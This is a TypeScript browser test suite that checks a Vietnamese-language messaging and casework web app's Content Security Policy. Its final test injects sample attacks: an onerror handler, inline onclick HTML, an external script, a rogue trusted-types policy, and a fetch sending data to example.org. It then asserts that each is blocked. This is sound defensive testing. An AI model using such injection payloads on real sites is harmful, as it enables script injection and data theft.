import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { DESK_SIZE, isChromiumMissing, openScreen, startBrowser, type Screen } from "./browser.ts";
import { startStack, type Stack } from "./stack.ts";

type Violations = { readonly screen: Screen; found(): Promise<string[]> };

/** Remembers what the page's policy had to stop; runs before any script of the page. */
const REMEMBER = `window.stopped = [];
  addEventListener("securitypolicyviolation", (event) => window.stopped.push(event.effectiveDirective + " " + event.blockedURI));`;

describe.skipIf(isChromiumMissing())("the page policy in a real browser", () => {
  let stack: Stack;
  let browser: Browser;

  beforeAll(async () => {
    stack = await startStack();
    browser = await startBrowser();
  });
  afterAll(async () => {
    await browser.close();
    await stack.stop();
  });

  const open = async (path: string): Promise<Violations> => {
    const screen = await openScreen(browser, { size: DESK_SIZE });
    await screen.page.addInitScript(REMEMBER);
    await screen.page.goto(stack.address + path, { waitUntil: "networkidle" });
    return { screen, found: async () => screen.page.evaluate<string[]>("window.stopped") };
  };

  test.each([
    ["/", "Nhắn tin"],
    ["/console/", "Đăng nhập"],
    ["/casework/", "Đăng nhập"],
    ["/exit", undefined],
    ["/api/docs/", "Nightlight"],
  ])("%s works, and the policy has nothing to stop", async (path, words) => {
    const { screen, found } = await open(path);
    if (words !== undefined) await screen.page.getByText(words).first().waitFor();
    expect(await found()).toEqual([]);
    expect(screen.complaints).toEqual([]);
    await screen.context.close();
  });

  const signIn = async (username: string): Promise<Violations> => {
    const opened = await open("/console/");
    const { page } = opened.screen;
    await page.getByLabel("Tên đăng nhập").fill(username);
    await page.getByLabel("Mật khẩu").fill(stack.signIns[0]?.password ?? "");
    await page.getByRole("button", { name: "Đăng nhập" }).click();
    return opened;
  };

  test("a counsellor's desk with its worker and its socket runs within the policy", async () => {
    const { screen, found } = await signIn("lan");
    await screen.page.getByRole("button", { name: "Bắt đầu ca" }).click();
    await screen.page.getByText("Sẵn sàng").first().waitFor();
    expect(await found()).toEqual([]);
    expect(screen.complaints).toEqual([]);
    expect(await screen.page.evaluate("self.crossOriginIsolated")).toBe(true);
    await screen.context.close();
  });

  test.each(["giam-sat", "quan-tri"])("every room of %s runs within the policy", async (username) => {
    const { screen, found } = await signIn(username);
    const rooms = screen.page.getByRole("navigation").getByRole("link");
    await rooms.first().waitFor();
    expect(await rooms.count()).toBeGreaterThan(1);
    for (const room of await rooms.all()) {
      await room.click();
      await screen.page.waitForLoadState("networkidle");
      await screen.page.getByRole("main").first().waitFor();
    }
    expect(await found()).toEqual([]);
    expect(screen.complaints).toEqual([]);
    await screen.context.close();
  });

  test.each(["/", "/console/", "/casework/"])(
    "%s: script that somebody smuggled in does not run, and is noticed",
    async (path) => {
      const { screen, found } = await open(path);
      // Each of these is a way in that an injected name or message could try.
      await screen.page.evaluate(`(() => {
      const attempt = (way) => { try { way(); } catch {} };
      const image = document.createElement("img");
      attempt(() => image.setAttribute("onerror", "window.smuggled = true"));
      image.setAttribute("src", "https://example.org/pixel.png");
      document.body.append(image);
      attempt(() => document.body.insertAdjacentHTML("beforeend", "<b onclick='window.smuggled = true'>words</b>"));
      attempt(() => { const script = document.createElement("script"); script.src = "https://example.org/x.js"; document.body.append(script); });
      attempt(() => trustedTypes.createPolicy("somebody-else", { createHTML: (text) => text }));
      void fetch("https://example.org/take?words").catch(() => undefined);
    })()`);
      await screen.page.waitForTimeout(300);
      const stopped = (await found()).join("\n");
      expect(stopped).toContain("img-src https://example.org");
      expect(stopped).toContain("trusted-types trusted-types-policy");
      expect(stopped).toContain("require-trusted-types-for trusted-types-sink");
      expect(stopped).toContain("connect-src https://example.org");
      expect(await screen.page.evaluate("window.smuggled")).toBeUndefined();
      await screen.context.close();
    },
  );
});
